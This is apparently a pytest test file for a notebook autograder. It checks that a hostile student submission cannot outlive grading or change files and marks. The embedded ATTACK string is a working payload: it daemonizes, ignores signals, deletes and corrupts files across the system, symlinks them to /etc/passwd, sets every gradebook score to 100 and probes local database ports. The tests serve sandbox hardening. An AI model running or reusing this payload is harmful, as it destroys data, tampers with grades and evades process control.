"""A submission that wants to go on when its kernel is gone: nothing of it lives or changes."""

from __future__ import annotations

import contextlib
import hashlib
import shutil
import socket
import sqlite3
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from command import program
from tiny_set import SET_ID, TINY

from cvlib.grading.course.course import Course
from cvlib.grading.gradebook.marks import Marks, read_marks
from cvlib.grading.rehearsal.classroom import Classroom, insert_after, rewrite, to_bytes
from cvlib.grading.spec.loading import LoadedSet

#: The name that every process and thread of the attack gives itself.
MARK = "lingering-eve"

ATTACK = """\
import ctypes, fcntl, glob, os, signal, socket, sqlite3, subprocess, sys, threading, time

COURSE, PORTS, MARK = {course!r}, {ports!r}, {mark!r}
END = time.time() + 600


def rename():
    ctypes.CDLL(None).prctl(15, MARK.encode(), 0, 0, 0)


def targets():
    roots = [COURSE, "/tmp", "..", "../..", "../../..", *glob.glob("/proc/[0-9]*/root" + COURSE),
             *glob.glob("/proc/[0-9]*/cwd"), *glob.glob("/proc/[0-9]*/fd/*")]
    for root in roots:
        for name in ("", "gradebook.db", "gradebook.db-wal", "gradebook.db-journal", ".secret",
                     "nbgrader_config.py", "results/x.json", "receipts/x", "x",
                     "submitted/ann/{set_id}/{set_id}.ipynb", "autograded/ann/{set_id}/x",
                     "autograded/eve/{set_id}/{set_id}.ipynb"):
            yield os.path.join(root, name)
    for top in ("/home", "/work", "/srv", "/root", "/var", "/mnt"):
        for folder, inner, names in os.walk(top):
            inner[:] = [n for n in inner if n not in ("lib", "site-packages", "cvlib")]
            yield from (os.path.join(folder, n) for n in names if n.endswith((".db", ".ipynb")))


def spoil():
    rename()
    while time.time() < END:
        for path in targets():
            for act in (lambda: open(path, "ab").write(b"10.0"), lambda: lock(path),
                        lambda: os.symlink("/etc/passwd", path), lambda: os.remove(path),
                        lambda: os.chmod(path, 0o777), lambda: os.makedirs(path)):
                try:
                    act()
                except BaseException:
                    pass
        for port in PORTS:
            for host in ("127.0.0.1", "localhost", "0.0.0.0", socket.gethostname()):
                try:
                    socket.create_connection((host, port), 0.1).sendall(b"SELECT 1;")
                except BaseException:
                    pass
        time.sleep(0.01)


held = []


def lock(path):
    if not os.path.isfile(path) or not path.endswith((".db", ".db-wal", ".secret")):
        return
    file = open(path, "r+b")
    fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    held.append(file)
    connection = sqlite3.connect(path, timeout=0, check_same_thread=False)
    connection.execute("BEGIN EXCLUSIVE")
    connection.execute("UPDATE grade SET auto_score = 100")
    held.append(connection)


def deaf():
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass


def detach():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    deaf()
    for handle in range(3):
        os.dup2(os.open(os.devnull, os.O_RDWR), handle)
    for _ in range(3):
        threading.Thread(target=spoil, daemon=False).start()
    spoil()
    os._exit(0)


detach()
code = "import ctypes, time; ctypes.CDLL(None).prctl(15, b'%s', 0, 0, 0); time.sleep(600)" % MARK
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
threading.Thread(target=spoil, daemon=False).start()
import atexit
atexit.register(spoil)
time.sleep(1.5)
"""


@dataclass(frozen=True)
class Aftermath:
    """What a test needs to know of the course after the attack."""

    course: Course
    seen: int  # processes of the attack, while it ran
    before: dict[str, str]  # the files when the twin had been graded
    after: dict[str, str]
    later: dict[str, str]
    marks: dict[str, Marks]  # when the twin had been graded
    connections: int


def processes(mark: str) -> set[int]:
    """The processes whose main thread bears a name."""
    found = set()
    for path in Path("/proc").glob("[0-9]*/comm"):
        with contextlib.suppress(OSError):
            if path.read_text().strip() == mark:
                found.add(int(path.parent.name))
    return found


def tree(root: Path) -> dict[str, str]:
    """Every entry below a folder, with what it is and holds."""
    found = {}
    for path in sorted(root.rglob("*")):
        if path.is_symlink():
            content = f"-> {path.readlink()}"
        else:
            content = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "folder"
        found[path.relative_to(root).as_posix()] = f"{path.lstat().st_mode:o} {content}"
    return found


@contextlib.contextmanager
def watched(seen: set[int]) -> Iterator[None]:
    """Collect the processes of the attack while something runs."""
    done = threading.Event()

    def look() -> None:
        while not done.wait(0.02):
            seen.update(processes(MARK))

    thread = threading.Thread(target=look)
    thread.start()
    try:
        yield
    finally:
        done.set()
        thread.join()


@contextlib.contextmanager
def database_port() -> Iterator[tuple[int, list[object]]]:
    """A port where a database could listen, and who connected to it."""
    arrived: list[object] = []
    with socket.socket() as listening:
        listening.bind(("0.0.0.0", 0))
        listening.listen(50)

        def accept() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, address = listening.accept()
                    connection.close()
                    arrived.append(address)

        threading.Thread(target=accept, daemon=True).start()
        yield listening.getsockname()[1], arrived


@pytest.fixture(scope="module")
def aftermath(
    tmp_path_factory: pytest.TempPathFactory, released: Path, tiny: LoadedSet
) -> Iterator[Aftermath]:
    """Grade ann and a harmless eve; then the hostile one, who answers the same; then wait."""
    root = tmp_path_factory.mktemp("after") / "course"
    shutil.copytree(released, root)
    room = Classroom(tiny, 1)

    def hand_in(student: str, content: bytes) -> None:
        path = root / "submitted" / student / SET_ID / f"{SET_ID}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)

    answered = rewrite(room.blank(), "taps", "taps = 27")
    hand_in("ann", to_bytes(room.solved()))
    hand_in("eve", to_bytes(answered))
    assert program(root, TINY, "run", "--workers", "1").returncode == 0
    course = Course.open(root, TINY)
    before, marks = tree(root), read_marks(course, SET_ID)
    seen: set[int] = set()
    with database_port() as (port, arrived):
        source = ATTACK.format(course=str(root), ports=[5432, port], mark=MARK, set_id=SET_ID)
        hand_in("eve", to_bytes(insert_after(answered, "spread", source)))
        with watched(seen):
            assert program(root, TINY, "run", "--workers", "1").returncode == 0
        alive = processes(MARK)
        after = tree(root)
        time.sleep(2)
        assert not alive, f"{len(alive)} processes outlived the run"
        yield Aftermath(course, len(seen), before, after, tree(root), marks, len(arrived))


def of_eve(name: str) -> bool:
    """Whether a file is about the one submission that was replaced."""
    return "eve" in Path(name).parts or "eve.json" in name or name.startswith("gradebook.db")


def test_the_attack_was_under_way_and_none_of_it_is_alive(aftermath: Aftermath) -> None:
    assert aftermath.seen >= 2
    assert not processes(MARK)


def test_no_file_differs_from_what_a_harmless_twin_leaves(aftermath: Aftermath) -> None:
    before = {n: c for n, c in aftermath.before.items() if not of_eve(n)}
    after = {n: c for n, c in aftermath.after.items() if not of_eve(n)}
    assert before.items() <= after.items()
    new = {n for n in after if n not in before}
    kept = {n for n in new if n.startswith("receipts/") and "/earlier" in n}  # eve's first receipt
    assert [Path(n).parent.name for n in new - kept] == ["results"]
    about_eve = [{n for n in t if of_eve(n)} for t in (aftermath.before, aftermath.after)]
    assert about_eve[0] == about_eve[1]


def test_nothing_changes_once_the_run_is_over(aftermath: Aftermath) -> None:
    assert aftermath.later == aftermath.after


def test_everybody_has_the_marks_of_before(aftermath: Aftermath) -> None:
    marks = read_marks(aftermath.course, SET_ID)
    assert marks == aftermath.marks
    assert marks["eve"].automatic["check-taps"] == 1.0
    assert marks["eve"].score == 1.0


def test_the_gradebook_can_be_written(aftermath: Aftermath) -> None:
    with contextlib.closing(
        sqlite3.connect(aftermath.course.root / "gradebook.db", timeout=0)
    ) as db:
        db.execute("BEGIN EXCLUSIVE")
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        db.rollback()


def test_nobody_reached_the_database_port(aftermath: Aftermath) -> None:
    assert aftermath.connections == 0
